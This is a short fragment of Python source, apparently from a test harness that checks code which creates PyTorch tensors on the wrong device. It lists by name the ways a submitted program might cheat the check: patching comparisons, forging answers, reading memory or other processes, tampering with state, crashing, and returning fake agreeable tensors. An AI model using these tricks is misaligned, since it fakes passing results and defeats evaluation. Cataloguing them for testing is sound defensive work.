    "garbage": "os.write(3, b'x' * 100)",
}
"""How a program that makes tensors on the wrong device may get out of being seen to."""

ONE_OF_EACH = {
    "patch": ("comparisons", "rng_module", "import_hooks"),
    "forge": ("answer_and_exit", "importing_others", "pickle", "nested_header"),
    "steal": ("frames", "environment", "own_memory_file", "other_processes"),
    "tamper": ("leftovers", "torch_state_in_call", "time_bomb", "shared_memory", "locale"),
    "end": ("hard_exit_in_call", "endless_import", "segfault_in_call"),
    "raise": ("feedback_markup", "control_characters", "skip"),
    "return": ("agreeable_tensor", "agreeable_number", "sparse", "expanded_wide"),
}
"""Attacks of every kind, for where the whole list would take too long."""
